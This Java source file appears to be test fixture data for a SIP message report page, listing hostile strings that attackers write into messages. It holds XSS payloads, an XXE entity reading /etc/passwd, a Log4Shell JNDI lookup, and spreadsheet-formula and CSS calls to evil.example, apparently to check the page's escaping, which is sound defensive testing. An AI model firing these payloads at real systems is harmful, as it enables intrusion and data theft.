package org.sipsleuth.report.page;

import java.util.List;

/// Names and bodies as attackers write them into messages.
public final class HostileTexts {

    private HostileTexts() {}

    /// All of them.
    public static final List<String> ALL = List.of("<script>alert(1)</script>",
            "</title><script src=//evil.example></script>", "</style></svg><img src=x onerror=alert(1)>",
            "\"><svg/onload=alert(1)>", "' onmouseover='alert(1)",
            "]]><!--&amp;&lt;<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;", "javascript:alert(1)",
            "data:text/html,<script>alert(1)</script>", "=HYPERLINK(\"http://evil.example\")", "a\u202etxt.exe\u202c b",
            "\u2066isolated\u2069 \u200b\ufeff", "tel\u0000\u0007\u001b[31m\u0085\u009b\u007f",
            "line one\r\nline two\u2028three\u2029four", "אבג 1001, 1002", "\u0661\u0662 + \u0663\u0664, 5",
            "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307algo", "\ud800 lone \udfff", "\ufffe\uffff\udbff\udfff",
            "{{7*7}} ${jndi:ldap://evil.example/a} {0}",
            "body{background:url(//evil.example)} @import '//evil.example'", "W".repeat(100_000),
            "x <b>".repeat(5_000));
}
